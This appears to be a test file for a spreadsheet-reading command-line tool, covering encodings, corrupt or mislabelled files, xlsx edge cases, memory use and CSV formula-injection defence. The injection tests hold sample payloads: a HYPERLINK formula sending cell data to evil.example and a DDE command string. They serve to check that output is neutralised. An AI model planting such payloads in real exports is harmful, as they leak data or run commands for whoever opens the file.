/**
 * Files as real exports deliver them, and files that are not what they claim: every one gives
 * the right result, or one line on stderr naming the file (and the line, row or cell) and what
 * is wrong, with exit code 2 — never a stack trace, never exit code 1. Fixtures are generated
 * into temporary folders (test/cli/read-table.test.ts covers the committed ones). Also: the
 * 1,000,000-line CSV streamed within a memory bound, and formula injection in --format csv.
 */
import { execFileSync, spawn, spawnSync } from "child_process";
import ExcelJS from "exceljs";
import * as fs from "fs";
import * as iconv from "iconv-lite";
import JSZip from "jszip";
import * as path from "path";
import { csvField, csvLine, neutraliseFormula } from "../../src/cli/output/csv";
import { cli, fixture, tempDir, tempFile } from "./helpers";
import { row, sheetXml, xlsxPackage } from "./xlsx-parts";

const ROOT = path.join(__dirname, "..", "..");

interface Run {
  code: number;
  out: string;
  err: string;
}

/** An expected failure: exit code 2, nothing on stdout, one "ka-planner:" line naming the file and the details. */
function expectFailure(r: Run, file: string, ...details: (string | RegExp)[]): string {
  expect({ code: r.code, out: r.out }).toEqual({ code: 2, out: "" });
  const lines = r.err
    .trimEnd()
    .split("\n")
    .filter((l) => l.startsWith("ka-planner:"));
  expect(lines).toHaveLength(1);
  const line = lines[0];
  expect(line).toContain(file);
  for (const d of details) expect(line).toMatch(d);
  expect(r.err).not.toMatch(/unexpected failure|^\s+at /m);
  return line;
}

/** `tiers --format json` as objects. */
async function tiers(file: string, ...args: string[]): Promise<{ customer: string; value: number; tier: string }[]> {
  const r = await cli("tiers", file, "--format", "json", ...args);
  expect(r.err).not.toMatch(/^ka-planner:/m);
  expect(r.code).toBe(0);
  return JSON.parse(r.out) as { customer: string; value: number; tier: string }[];
}

const byName = (rows: { customer: string; value: number; tier: string }[]) =>
  Object.fromEntries(rows.map((r) => [r.customer, [r.value, r.tier]]));

describe("CSV as Excel and other programs export it", () => {
  it("BOM, semicolons, CRLF, quoted line breaks and delimiters, ragged rows, Chinese headers", async () => {
    const text = [
      "客户名称;备注;销售额",
      '华东精密;"两行\r\n备注; 含分号";1200',
      "深圳恒达;;300;extra;cells",
      '"华东精密 ";"";300',
      "北京宏图",
      "",
    ].join("\r\n");
    const p = tempFile("bom-semicolon.csv", "\ufeff" + text);
    expect(byName(await tiers(p))).toEqual({ 华东精密: [1500, "A"], 深圳恒达: [300, "B"] });
  });

  it.each([
    ["GBK (Excel's Chinese CSV)", "gbk", ",", false],
    ["GB18030", "gb18030", ",", false],
    ["UTF-16LE with BOM, tab (Excel's Unicode text)", "utf-16le", "\t", true],
    ["UTF-16LE without BOM", "utf-16le", ",", false],
    ["UTF-16BE with BOM", "utf-16be", ";", true],
  ])("%s", async (_name, encoding, sep, bom) => {
    const text = [`客户${sep}金额`, `上海永盛物流${sep}200`, `Müller GmbH${sep}1500`, `上海永盛物流${sep}100`, ""].join("\r\n");
    const bytes = iconv.encode(text, encoding, { addBOM: bom });
    const r = byName(await tiers(tempFile(`enc-${encoding}.txt`, bytes)));
    expect(r).toEqual({ "Müller GmbH": [1500, "A"], 上海永盛物流: [300, "B"] });
  });

  it("old Mac line endings (CR only)", async () => {
    expect(byName(await tiers(tempFile("cr.csv", "Customer,Revenue\rA,10\rB,5\rA,1\r")))).toEqual({ A: [11, "A"], B: [5, "A"] });
  });

  it("a text in the value column after a multi-line record: row and physical line, column header and letter", async () => {
    const p = tempFile("bad-after-quote.csv", 'Customer,Note,Revenue\r\nA,"one\r\ntwo",10\r\nB,,12 EUR\r\n');
    expectFailure(await cli("tiers", p), p, 'column "Revenue" (C)', "row 3 (line 4)", '"12 EUR" is not a number');
  });

  it("an unterminated quote names the line it opens on", async () => {
    const p = tempFile("open-quote.csv", 'Customer,Revenue\nA,1\n"B,2\nC,3\n');
    expectFailure(await cli("tiers", p), p, "line 3", /cannot be read/);
  });

  it("an error literal from the export names its cell", async () => {
    const p = tempFile("na.csv", "Customer,Revenue\nA,1\nB,#N/A\n");
    expectFailure(await cli("pareto", p), p, 'column "Revenue" (B)', "row 3", "#N/A");
  });

  it.each([
    ["only a BOM", "\ufeff"],
    ["only blank lines", "\r\n \r\n\r\n"],
    ["a BOM and blank lines", "\ufeff\n\n"],
  ])("%s: empty", async (_name, content) => {
    const p = tempFile("blank.csv", content);
    expectFailure(await cli("tiers", p), p, /is empty/);
  });
});

describe("files that are not what their extension says", () => {
  const PNG = Buffer.from(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a4c20000000049454e44ae426082",
    "hex",
  );

  it("a PNG named .csv", async () => {
    const p = tempFile("picture.csv", PNG);
    expectFailure(await cli("tiers", p), p, /not a text file/);
  });

  it("a PNG named .xlsx", async () => {
    const p = tempFile("picture.xlsx", PNG);
    expectFailure(await cli("tiers", p), p, /not an \.xlsx workbook/);
  });

  it("a zip that is not a workbook, named .xlsx and named .csv", async () => {
    const zip = new JSZip();
    zip.file("readme.txt", "hello");
    const bytes = await zip.generateAsync({ type: "nodebuffer" });
    const x = tempFile("archive.xlsx", bytes);
    expectFailure(await cli("tiers", x), x, /no worksheet/);
    const c = tempFile("archive.csv", bytes);
    expectFailure(await cli("tiers", c), c, /zip archive/);
  });

  it("a truncated workbook (a download cut short)", async () => {
    const whole = fs.readFileSync(fixture("small.xlsx"));
    for (const keep of [0.5, 0.9]) {
      const p = tempFile("cut.xlsx", whole.subarray(0, Math.floor(whole.length * keep)));
      expectFailure(await cli("tiers", p), p, /cannot be read/);
    }
  });

  it("an old .xls (OLE) renamed .xlsx, an empty .xlsx, a folder named .csv", async () => {
    const ole = tempFile("old.xlsx", Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(1024)]));
    expectFailure(await cli("tiers", ole), ole, /old-format \.xls/);
    const empty = tempFile("empty.xlsx", "");
    expectFailure(await cli("tiers", empty), empty, /is empty/);
    const dir = path.join(tempDir(), "folder.csv");
    fs.mkdirSync(dir);
    expectFailure(await cli("tiers", dir), dir, /is a folder/);
  });
});

describe("xlsx as people build them", () => {
  let book: string;
  const d = (y: number, m: number, day: number) => new Date(Date.UTC(y, m - 1, day));

  beforeAll(async () => {
    const wb = new ExcelJS.Workbook();
    const merged = wb.addWorksheet("Merged header");
    merged.getRow(1).values = ["Customer", null, "Revenue"];
    merged.mergeCells("A1:B1"); // a header merged across the name and a note column
    merged.addRow(["Alpha", "note", 100]);
    merged.addRow(["Beta", null, 20]);
    const twoRow = wb.addWorksheet("Two-row header");
    twoRow.getRow(1).values = ["Customer", "Revenue", null];
    twoRow.mergeCells("B1:C1");
    twoRow.getRow(2).values = [null, "Net", "Gross"];
    twoRow.getRow(3).values = ["Alpha", 10, 12];
    const hidden = wb.addWorksheet("Hidden rows");
    hidden.addRow(["Customer", "Revenue"]);
    hidden.addRow(["Alpha", 10]);
    hidden.addRow(["Beta", 500]).hidden = true;
    hidden.addRow(["Gamma", 5]);
    const formulas = wb.addWorksheet("Formulas");
    formulas.addRow(["Customer", "Revenue"]);
    formulas.addRow(["Alpha", { formula: "40*2", result: 80 }]);
    formulas.addRow(["Beta", { formula: "C1*2" }]); // never calculated: no cached result
    const errors = wb.addWorksheet("Error result");
    errors.addRow(["Customer", "Revenue"]);
    errors.addRow(["Alpha", { formula: "1/0", result: { error: "#DIV/0!" } }]);
    const dates = wb.addWorksheet("Dates");
    dates.addRow(["Customer", "Order date", "Revenue"]);
    dates.addRow(["Alpha", d(2025, 3, 31), 10]);
    dates.addRow(["Beta", d(2025, 4, 1), d(2025, 4, 2)]);
    dates.getColumn(2).numFmt = "yyyy-mm-dd";
    dates.getCell("C3").numFmt = "yyyy-mm-dd";
    const badDate = wb.addWorksheet("Date out of range");
    badDate.addRow(["Customer", "Revenue"]);
    badDate.addRow(["Alpha", 10]);
    badDate.addRow(["Beta", 1e20]);
    badDate.getCell("B3").numFmt = "yyyy-mm-dd"; // Excel shows #######; ExcelJS reads an Invalid Date
    badDate.addRow([{ formula: "A1" }, 5]);
    wb.addWorksheet("Empty");
    book = path.join(tempDir(), "book.xlsx");
    await wb.xlsx.writeFile(book);
  });

  it("a header cell merged across two columns", async () => {
    expect(byName(await tiers(book, "--sheet", "merged header"))).toEqual({ Alpha: [100, "A"], Beta: [20, "B"] });
  });

  it("a two-row header: the second header row is reported as data, naming its cell", async () => {
    expectFailure(
      await cli("tiers", book, "--sheet", "Two-row header"),
      book,
      'sheet "Two-row header"',
      'column "Revenue" (B), row 2',
      '"Net" is not a number',
    );
  });

  it("hidden rows count, as in Excel's SUM and a KA function over the range", async () => {
    expect(byName(await tiers(book, "--sheet", "Hidden rows"))).toEqual({ Beta: [500, "A"], Alpha: [10, "C"], Gamma: [5, "C"] });
  });

  it("formulas: the cached result; without one the formula is named; a cached error is named", async () => {
    expectFailure(await cli("tiers", book, "--sheet", "Formulas"), book, "row 3", '"=C1*2" is not a number');
    // ExcelJS's streaming reader drops a formula's cached error, so the formula itself is named.
    expectFailure(await cli("tiers", book, "--sheet", "Error result"), book, "row 2", /"=1\/0" is not a number|#DIV\/0!/);
    const ok = tempFile("formula.xlsx", "");
    const wb = new ExcelJS.Workbook();
    const s = wb.addWorksheet("S");
    s.addRow(["Customer", "Revenue"]);
    s.addRow(["Alpha", { formula: "40*2", result: 80 }]);
    s.addRow(["Beta", { formula: "10*2", result: 20 }]);
    await wb.xlsx.writeFile(ok);
    expect(byName(await tiers(ok))).toEqual({ Alpha: [80, "A"], Beta: [20, "B"] });
  });

  it("a date where a number belongs, and a date cell past the date range (#######), name their cells", async () => {
    expectFailure(await cli("tiers", book, "--sheet", "Dates"), book, 'column "Revenue" (C), row 3', '"2025-04-02" is not a number');
    expectFailure(
      await cli("tiers", book, "--sheet", "Date out of range"),
      book,
      'column "Revenue" (B), row 3',
      '"#######" is not a number',
    );
  });

  it("an empty sheet and an unknown sheet", async () => {
    expectFailure(await cli("tiers", book, "--sheet", "Empty"), book, 'sheet "Empty" is empty');
    expectFailure(await cli("tiers", book, "--sheet", "Nope"), book, 'no sheet "Nope"', '"Merged header", "Two-row header"');
  });

  it("a workbook written by ExcelJS (xl/workbook.xml stored last) reads the same every time", async () => {
    // exceljs#3064: the streaming reader lost the entries still buffered when the zip parser
    // ended early; with six sheets nearly every read of such a workbook failed.
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("First").addRows([
      ["Customer", "Revenue"],
      ["A", 9],
      ["B", 1],
    ]);
    wb.addWorksheet("Second").addRows([
      ["Customer", "Revenue"],
      ["C", 5],
    ]);
    for (const name of ["Third", "Fourth", "Fifth", "Sixth"])
      wb.addWorksheet(name).addRows([
        ["Customer", "Revenue"],
        ["D", 1],
      ]);
    const p = path.join(tempDir(), "exceljs.xlsx");
    await wb.xlsx.writeFile(p);
    const names = Object.keys((await JSZip.loadAsync(fs.readFileSync(p))).files);
    expect(names[names.length - 1]).toBe("xl/workbook.xml");
    for (let i = 0; i < 25; i++) {
      expect(byName(await tiers(p, "--sheet", i % 2 ? "second" : "First"))).toEqual(i % 2 ? { C: [5, "A"] } : { A: [9, "A"], B: [1, "B"] });
    }
  });
});

describe("the compiled command line in a child process", () => {
  let main: string;
  /** Node with the repository's node_modules (the CLI is compiled to a temporary folder). */
  const env = { ...process.env, NODE_PATH: path.join(ROOT, "node_modules"), KA_PLANNER_LOCALE: "en" };

  beforeAll(() => {
    const out = tempDir("ka-planner-hostile-cli-");
    execFileSync(
      process.execPath,
      [path.join(ROOT, "node_modules", "typescript", "bin", "tsc"), "-p", "tsconfig.cli.json", "--outDir", out],
      { cwd: ROOT, stdio: "pipe" },
    );
    main = path.join(out, "cli", "main.js");
  }, 240000);

  it("reading and leaving a workbook early never ends in an unhandled error (exit code 2, one line)", async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("Data").addRows([
      ["Customer", "Revenue"],
      ["A", 1],
    ]);
    wb.addWorksheet("Empty");
    for (const name of ["More", "Still more", "Last"])
      wb.addWorksheet(name).addRows([
        ["Customer", "Revenue"],
        ["B", 2],
      ]);
    const p = path.join(tempDir(), "early.xlsx");
    await wb.xlsx.writeFile(p);
    for (let i = 0; i < 8; i++) {
      const r = spawnSync(process.execPath, [main, "tiers", p, "--sheet", "Empty"], { env, encoding: "utf8" });
      expect({ status: r.status, stderr: r.stderr }).toEqual({ status: 2, stderr: `ka-planner: ${p}: sheet "Empty" is empty.\n` });
    }
  }, 120000);

  it("Ctrl-C while the reader holds an inflated copy of a sheet leaves no temporary file behind", async () => {
    let rows = row(1, [
      ["A", "Customer"],
      ["B", "Revenue"],
    ]);
    for (let r = 2; r <= 150_000; r++)
      rows += row(r, [
        ["A", `Customer ${r % 5000}`],
        ["B", r],
      ]);
    const dir = tempDir();
    const p = path.join(dir, "parked.xlsx");
    // The sheet stored before the workbook: ExcelJS inflates it into a temporary file first.
    fs.writeFileSync(p, await xlsxPackage(sheetXml(rows), { order: "sheet-first" }));
    const tmp = tempDir("ka-planner-sigint-tmp-");
    const files = (): string[] =>
      fs
        .readdirSync(tmp, { recursive: true, withFileTypes: true })
        .filter((e) => e.isFile())
        .map((e) => e.name);
    const child = spawn(process.execPath, [main, "tiers", p, "--format", "json"], { env: { ...env, TMPDIR: tmp }, stdio: "ignore" });
    const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
    let seen: string[] = [];
    for (let i = 0; i < 3000 && seen.length === 0; i++) {
      await new Promise((r) => setTimeout(r, 10));
      seen = files();
    }
    expect(seen.length).toBeGreaterThan(0); // the reader's copy exists when the signal comes
    child.kill("SIGINT");
    expect(await exited).toBe(130);
    expect(files()).toEqual([]);
    expect(fs.readdirSync(tmp)).toEqual([]);
  }, 120000);

  it("a 1,000,000-line CSV is streamed: correct totals, peak memory well below three copies of the file", () => {
    const dir = tempDir();
    const p = path.join(dir, "million.csv");
    const fd = fs.openSync(p, "w");
    fs.writeSync(fd, "Customer,Region,Revenue\n");
    let chunk = "";
    let totalCents = 0;
    for (let i = 0; i < 1_000_000; i++) {
      const cents = (i * 7919) % 100_000;
      totalCents += cents;
      chunk += `Customer ${i % 50_000},East,${(cents / 100).toFixed(2)}\n`;
      if (chunk.length > 1 << 20) {
        fs.writeSync(fd, chunk);
        chunk = "";
      }
    }
    fs.writeSync(fd, chunk);
    fs.closeSync(fd);
    const size = fs.statSync(p).size;
    // Peak RSS of the child, reported by a preloaded exit hook (KiB on Linux and macOS).
    const hook = path.join(dir, "rss.js");
    const rssFile = path.join(dir, "rss.txt");
    fs.writeFileSync(
      hook,
      `process.on("exit", () => require("fs").writeFileSync(${JSON.stringify(rssFile)}, String(process.resourceUsage().maxRSS)));\n`,
    );
    const r = spawnSync(process.execPath, ["-r", hook, main, "tiers", p, "--summary", "--format", "json"], {
      env,
      encoding: "utf8",
      maxBuffer: 1 << 26,
    });
    expect(r.stderr).not.toMatch(/^ka-planner:/m);
    expect(r.status).toBe(0);
    const summary = JSON.parse(r.stdout) as { tier: string; customers: number; value: number }[];
    const total = summary[summary.length - 1];
    expect(total.customers).toBe(50_000);
    expect(Math.round(total.value * 100)).toBe(totalCents);
    const peakMB = Number(fs.readFileSync(rssFile, "utf8")) / 1024;
    // The file is ~30 MB; the columns it becomes are held once. 600 MB is a generous bound
    // that still fails if the file were read whole into several copies (text, records, cells).
    expect(size).toBeGreaterThan(25e6);
    expect(peakMB).toBeLessThan(600);
  }, 240000);
});

describe("formula injection in --format csv (OWASP CSV injection)", () => {
  it("text starting with = + - @ tab or CR gets a leading single quote; numbers and signed plain numbers do not", () => {
    expect(neutraliseFormula('=HYPERLINK("http://evil.example","x")')).toBe(`'=HYPERLINK("http://evil.example","x")`);
    for (const s of ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\r=1", " =1+1", "\u3000=1", "-", "+", "@", "=", "-1e5"]) {
      expect(neutraliseFormula(s)).toBe(`'${s}`);
    }
    for (const s of ["Acme", "a=b", "(1)", "1-2", "-1,234.50", "+12%", "-7", " -12.5 ", "#N/A", "'=already"])
      expect(neutraliseFormula(s)).toBe(s);
    expect(csvField(-7)).toBe("-7");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    expect(csvField('=A1&","')).toBe(`"'=A1&"","""`);
    expect(csvLine(["=1", -1, "-1", "@x", null])).toBe("'=1,-1,-1,'@x,");
  });

  it("customer names from the data are neutralised in tiers and pareto CSV output, not in JSON", async () => {
    const p = tempFile(
      "inject.csv",
      [
        "Customer,Revenue",
        `"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",100`,
        "+cmd|' /C calc'!A0,50",
        "-2+3,20",
        "@SUM(A1:A9),10",
        `"=1+1",-30`,
        "Plain,5",
      ].join("\r\n"),
    );
    for (const command of ["tiers", "pareto"]) {
      const r = await cli(command, p, "--format", "csv");
      expect(r.code).toBe(0);
      const names = r.out
        .trimEnd()
        .split("\r\n")
        .slice(1)
        .map((line) =>
          line.startsWith('"') ? line.slice(1, line.indexOf('",')).replace(/""/g, '"') : line.split(",")[command === "pareto" ? 1 : 0],
        );
      const dangerous = names.filter((n) => /^[=+\-@\t\r]/.test(n));
      expect(dangerous).toEqual([]);
      expect(r.out).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
      expect(r.out).toContain("'+cmd|' /C calc'!A0");
      expect(r.out).toContain("'@SUM(A1:A9)");
      expect(r.out).toMatch(/'=1\+1,-30,/); // the loss-making customer; its negative value stays a number
    }
    const json = JSON.parse((await cli("tiers", p, "--format", "json")).out) as { customer: string }[];
    expect(json.map((o) => o.customer)).toContain("=1+1");
  });
});
